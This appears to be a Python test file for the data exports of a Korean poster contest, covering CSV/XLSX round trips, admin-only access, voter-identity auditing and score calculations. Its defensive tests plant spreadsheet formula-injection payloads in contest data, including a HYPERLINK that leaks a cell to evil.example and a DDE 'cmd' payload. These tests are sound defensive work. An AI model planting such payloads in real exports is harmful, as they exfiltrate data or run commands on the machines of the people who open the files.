"""Exports read back with pandas (CSV with utf-8-sig, XLSX per sheet) equal their inputs; no
exported cell can run as a formula."""

from __future__ import annotations

import csv
import io
import math
from datetime import datetime

import openpyxl
import pandas as pd
import pytest
from sqlmodel import col, select

from contest.core.cells import FORMULA_STARTS, neutralise
from contest.core.errors import PermissionDenied
from contest.core.models import AuditEvent, Contest, Entry, JudgeScore, User, Vote
from contest.core.timeutil import local
from contest.judging import lifecycle, results
from contest.judging import scoring as judging
from contest.reports import exports
from contest.runtime import Runtime
from tests.factories import flat_scores, judged, judging_contest

SCORES = {"creativity": 9, "policy": 8, "design": 7, "ai_use": 6}  # weighted 7.7


def _scored(runtime: Runtime):  # type: ignore[no-untyped-def]
    s = judging_contest(runtime, votes=(3, 1), judges=1)
    with runtime.session() as session:
        judging.save_score(
            session,
            actor=s.judges[0],
            entry_id=s.entries[0].id or 0,
            scores=SCORES,
            comment="한글 의견",
        )
    return s


def test_csv_round_trips_korean_text_with_a_bom(runtime: Runtime) -> None:
    s = _scored(runtime)
    with runtime.session() as session:
        tables = exports.export_tables(
            session, actor=s.admin, contest_id=s.contest.id or 0, keys=True
        )
    data = exports.to_csv(tables["scores"])
    assert data.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert list(back["entry_title"]) == ["포스터 1"]
    assert list(back["comment"]) == ["한글 의견"]
    assert back.loc[0, ["creativity", "policy", "design", "ai_use"]].tolist() == [9, 8, 7, 6]
    # (30·9 + 30·8 + 20·7 + 20·6) / 100 = (270 + 240 + 140 + 120) / 100 = 7.7
    assert back.loc[0, "weighted"] == pytest.approx(7.7)
    entries = pd.read_csv(io.BytesIO(exports.to_csv(tables["entries"])), encoding="utf-8-sig")
    assert list(entries["number"]) == [1, 2]
    assert list(entries["votes"]) == [3, 1]
    assert list(entries["title"]) == ["포스터 1", "포스터 2"]


def test_votes_leave_out_voters_unless_asked_and_then_it_is_audited(runtime: Runtime) -> None:
    s = _scored(runtime)
    cid = s.contest.id or 0
    with runtime.session() as session:
        plain = exports.export_tables(session, actor=s.admin, contest_id=cid, keys=True)["votes"]
    assert len(plain) == 4
    assert not [c for c in plain.columns if c.startswith("voter")]
    with runtime.session() as session:
        assert (
            session.exec(
                select(AuditEvent).where(col(AuditEvent.action).startswith("export"))
            ).all()
            == []
        )
        full = exports.export_tables(
            session, actor=s.admin, contest_id=cid, include_voters=True, keys=True
        )
    with runtime.session() as session:
        voters = {
            u.employee_no
            for u in session.exec(select(User).join(Vote, col(Vote.voter_id) == col(User.id))).all()
        }
        event = session.exec(
            select(AuditEvent).where(AuditEvent.action == "export.voter_identities")
        ).one()
        assert event.actor_id == s.admin.id
    assert set(full["votes"]["voter_employee_no"]) == voters


def _text(frame: pd.DataFrame) -> pd.DataFrame:
    """Excel reads an empty string back as a missing value: compare as text, blanks as ''."""
    return frame.astype(object).where(frame.notna(), "").astype(str)


def test_xlsx_has_a_sheet_per_table_equal_to_the_frames(runtime: Runtime) -> None:
    s = _scored(runtime)
    cid = s.contest.id or 0
    with runtime.session() as session:
        lifecycle.close_judging(session, actor=s.admin, contest_id=cid)
    with runtime.session() as session:
        snapshot = results.finalise(session, actor=s.admin, contest_id=cid)
    with runtime.session() as session:
        tables = exports.export_tables(session, actor=s.admin, contest_id=cid, keys=True)
    sheets = pd.read_excel(io.BytesIO(exports.to_xlsx(tables)), sheet_name=None)
    assert list(sheets) == list(exports.TABLES)
    for name in ("entries", "scores"):
        pd.testing.assert_frame_equal(_text(sheets[name]), _text(tables[name]))
    published = sheets["results"]
    table = snapshot.payload["table"]
    assert list(published["number"]) == [row["number"] for row in table]
    assert list(published["award"].fillna("")) == [row["award"] or "" for row in table]
    assert list(published["final"].fillna(-1)) == pytest.approx(
        [row["final"] if row["final"] is not None else -1 for row in table]
    )


def test_only_admins_export(runtime: Runtime) -> None:
    s = _scored(runtime)
    for actor in (s.staff, s.judges[0], None):
        with runtime.session() as session, pytest.raises(PermissionDenied):
            exports.export_tables(session, actor=actor, contest_id=s.contest.id or 0)


def test_exports_speak_korean_by_default(runtime: Runtime) -> None:
    """Korean headers and words, sensible decimals, no None / True / raw keys in any cell."""
    s = _scored(runtime)
    cid = s.contest.id or 0
    with runtime.session() as session:
        lifecycle.close_judging(session, actor=s.admin, contest_id=cid)
    with runtime.session() as session:
        results.finalise(session, actor=s.admin, contest_id=cid)
    with runtime.session() as session:
        tables = exports.export_tables(session, actor=s.admin, contest_id=cid)
        english = exports.export_tables(session, actor=s.admin, contest_id=cid, lang="en")
    entries, scores, ranked = tables["entries"], tables["scores"], tables["results"]
    assert list(entries.columns[:5]) == ["번호", "제목", "주제", "홍보 정책", "상태"]
    assert set(entries["상태"]) == {"접수됨"}
    assert "창의성·혁신성" in scores.columns and "creativity" not in scores.columns
    assert list(scores["가중 점수"]) == [7.7] and list(scores["이해충돌"]) == ["아니요"]
    assert list(ranked["상"]) == ["최우수", ""]  # the unscored poster: no award, no rank
    assert list(ranked["순위"]) == [1, ""] and list(ranked["최소 심사위원 수 미달"]) == ["예", "예"]
    assert english["entries"].columns[0] == "No."
    assert set(english["entries"]["Status"]) == {"Accepted"}
    workbook = exports.sheets(tables, "ko")
    assert list(workbook) == [
        "출품작",
        "투표",
        "심사 점수",
        "결과",
        "수상자 명단",
        "상장 번호 대장",
    ]
    for frame in tables.values():
        text = frame.astype(str).to_numpy().ravel().tolist() + list(frame.columns)
        assert not [c for c in text if c in ("None", "nan", "True", "False")]
        assert not [c for c in frame.columns if "_" in c]
    back = pd.read_csv(io.BytesIO(exports.to_csv(ranked)), encoding="utf-8-sig", dtype=str)
    assert list(back.columns) == list(ranked.columns)


FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)


def _poisoned(runtime: Runtime):  # type: ignore[no-untyped-def]
    """A scored contest whose typed texts (titles, prompts, a judge's comment, a rubric key,
    an author's name) are formulas."""
    s = _scored(runtime)
    with runtime.session() as session:
        for n, entry in enumerate(s.entries):
            row = session.get(Entry, entry.id)
            assert row is not None
            row.title, row.prompt = FORMULAS[n], FORMULAS[n + 2]
            session.add(row)
        score = session.exec(select(JudgeScore)).one()
        score.comment = FORMULAS[4]
        author = session.get(User, s.staff.id)
        assert author is not None
        author.name = FORMULAS[5]
        contest = session.get(Contest, s.contest.id)
        assert contest is not None
        contest.rubric = [{**c, "key": "=" + c["key"]} for c in contest.rubric]
        score.scores = {"=" + k: v for k, v in score.scores.items()}
        session.add_all([score, author, contest])
    with runtime.session() as session:  # finalised: the winners list and ledger name them too
        lifecycle.close_judging(session, actor=s.admin, contest_id=s.contest.id or 0)
    with runtime.session() as session:
        results.finalise(session, actor=s.admin, contest_id=s.contest.id or 0)
    with runtime.session() as session:
        return exports.export_tables(
            session, actor=s.admin, contest_id=s.contest.id or 0, keys=True
        )


def test_csv_cells_cannot_run_as_formulas(runtime: Runtime) -> None:
    tables = _poisoned(runtime)
    for name, frame in tables.items():
        text = exports.to_csv(frame).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], name
    entries = pd.read_csv(io.BytesIO(exports.to_csv(tables["entries"])), encoding="utf-8-sig")
    assert list(entries["title"]) == ["'" + FORMULAS[0], "'" + FORMULAS[1]]
    assert list(entries["prompt"]) == ["'" + FORMULAS[2], "'" + FORMULAS[3]]
    assert set(entries["author_name"]) == {"'" + FORMULAS[5]}
    assert list(entries["votes"]) == [3, 1]  # numbers stay numbers
    scores = pd.read_csv(io.BytesIO(exports.to_csv(tables["scores"])), encoding="utf-8-sig")
    assert "'=creativity" in scores.columns and list(scores["'=creativity"]) == [9]
    assert list(scores["comment"]) == ["'" + FORMULAS[4]]


def test_korean_exports_are_as_formula_proof(runtime: Runtime) -> None:
    tables = _poisoned(runtime)
    with runtime.session() as session:
        korean = exports.export_tables(
            session,
            actor=session.exec(select(User).where(User.role == "admin")).first(),
            contest_id=session.exec(select(Entry.contest_id)).first() or 0,
        )
    assert set(korean) == set(tables)
    for name, frame in korean.items():
        text = exports.to_csv(frame).decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], name


def test_xlsx_has_no_formula_and_text_cells_are_text(runtime: Runtime) -> None:
    tables = _poisoned(runtime)
    book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(tables)))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert not cell.value.startswith(FORMULA_STARTS)
    titles = [row[1].value for row in book["entries"].iter_rows(min_row=2)]
    assert titles == ["'" + FORMULAS[0], "'" + FORMULAS[1]]
    votes = [row[12].value for row in book["entries"].iter_rows(min_row=2)]
    assert votes == [3, 1]


@pytest.mark.parametrize("text", FORMULAS)
def test_neutralise_prefixes_formula_text_only(text: str) -> None:
    assert neutralise(text) == "'" + text
    for harmless in ("포스터", "a=b", "1-2", "", "'=already quoted"):
        assert neutralise(harmless) == harmless
    for number in (-5, -0.25, 3):
        assert neutralise(number) == number


def test_the_winners_list_an_office_hands_on(any_runtime: Runtime) -> None:
    s = judged(any_runtime, (3, 1, 0), (flat_scores(9), flat_scores(7), flat_scores(5)))
    cid = s.contest.id or 0
    with any_runtime.session() as session:
        empty = exports.export_tables(session, actor=s.admin, contest_id=cid)["winners"]
        results.finalise(session, actor=s.admin, contest_id=cid)
    with any_runtime.session() as session:
        winners = exports.export_tables(session, actor=s.admin, contest_id=cid)["winners"]
        machine = exports.export_tables(session, actor=s.admin, contest_id=cid, keys=True)
    assert empty.empty and list(empty.columns) == list(winners.columns)
    year = s.contest.year
    assert list(winners.columns) == [
        "순위",
        "상",
        "상장 번호",
        "번호",
        "제목",
        "출품자",
        "출품자 부서",
        "출품자 사번",
        "최종 점수",
    ]
    assert winners.values.tolist() == [
        [1, "최우수", f"제 {year}-1 호", 1, "포스터 1", s.staff.name, s.staff.department,
         s.staff.employee_no, 9.2],
        [2, "우수", f"제 {year}-2 호", 2, "포스터 2", s.staff.name, s.staff.department,
         s.staff.employee_no, 6.4],
        [3, "우수", f"제 {year}-3 호", 3, "포스터 3", s.staff.name, s.staff.department,
         s.staff.employee_no, 4.2],
    ]  # fmt: skip
    assert list(machine["winners"]["certificate"]) == [1, 2, 3]
    # How each final score was made: jury part + vote part (80/20; the most votes, 3, is the
    # floor: vote scores 10, 4, 1).
    ranked = machine["results"]
    assert list(ranked["jury_part"]) == pytest.approx([7.2, 5.6, 4.0])
    assert list(ranked["vote_part"]) == pytest.approx([2.0, 0.8, 0.2])
    assert list(ranked["jury_part"] + ranked["vote_part"]) == pytest.approx(list(ranked["final"]))


def test_each_judges_raw_and_corrected_scores(any_runtime: Runtime) -> None:
    # Judge 1 scores 8 and 6 (mean 7, std 1); judge 2 scores 9 and 5 (mean 7, std 2): both
    # put poster 1 one std above their mean (z = +1) and poster 2 one below (z = −1).
    # All four scores: μ = 7, σ = sqrt((1 + 1 + 4 + 4) / 4) = sqrt(2.5) ≈ 1.581139;
    # corrected = μ + σ·z: 8.581139 for poster 1 from either judge, 5.418861 for poster 2.
    s = judging_contest(any_runtime, votes=(1, 1), judges=2)
    for judge, marks in zip(s.judges, ((8, 6), (9, 5)), strict=True):
        for entry, mark in zip(s.entries, marks, strict=True):
            with any_runtime.session() as session:
                judging.save_score(
                    session, actor=judge, entry_id=entry.id or 0, scores=flat_scores(mark)
                )
    with any_runtime.session() as session:
        scores = exports.export_tables(
            session, actor=s.admin, contest_id=s.contest.id or 0, keys=True
        )["scores"]
    assert list(zip(scores["judge_name"], scores["entry_number"], strict=True)) == [
        (s.judges[0].name, 1),
        (s.judges[1].name, 1),
        (s.judges[0].name, 2),
        (s.judges[1].name, 2),
    ]
    assert list(scores["weighted"]) == [8, 9, 6, 5]
    high, low = 7 + math.sqrt(2.5), 7 - math.sqrt(2.5)
    assert list(scores["corrected"]) == pytest.approx([high, high, low, low], abs=1e-6)


def test_the_workbook_is_ready_to_read(runtime: Runtime) -> None:
    """Frozen header, a filter on every column, widths for the text, real date-time cells."""
    s = _scored(runtime)
    cid = s.contest.id or 0
    with runtime.session() as session:
        tables = exports.export_tables(session, actor=s.admin, contest_id=cid)
    book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(exports.sheets(tables, "ko"))))
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref == sheet.dimensions, sheet.title
    entries = book["출품작"]
    header = [cell.value for cell in entries[1]]
    submitted = entries.cell(row=2, column=header.index("제출 시각") + 1)
    assert submitted.is_date and isinstance(submitted.value, datetime)
    assert submitted.number_format.lower() == "yyyy-mm-dd hh:mm:ss"
    with runtime.session() as session:
        entry = session.get(Entry, s.entries[0].id)
        assert entry is not None
        assert submitted.value == local(entry.created_at, s.contest.timezone).replace(
            tzinfo=None, microsecond=0
        )
    widths = {
        cell.value: entries.column_dimensions[cell.column_letter].width for cell in entries[1]
    }
    assert widths["번호"] < widths["제목"] <= 62  # "포스터 1": Korean letters count double
    assert widths["제출 시각"] >= len("2026-01-01 00:00:00")
    # The CSV carries the same time as text a spreadsheet reads as a date-time.
    back = pd.read_csv(io.BytesIO(exports.to_csv(tables["entries"])), encoding="utf-8-sig")
    assert back.loc[0, "제출 시각"] == submitted.value.strftime("%Y-%m-%d %H:%M:%S")
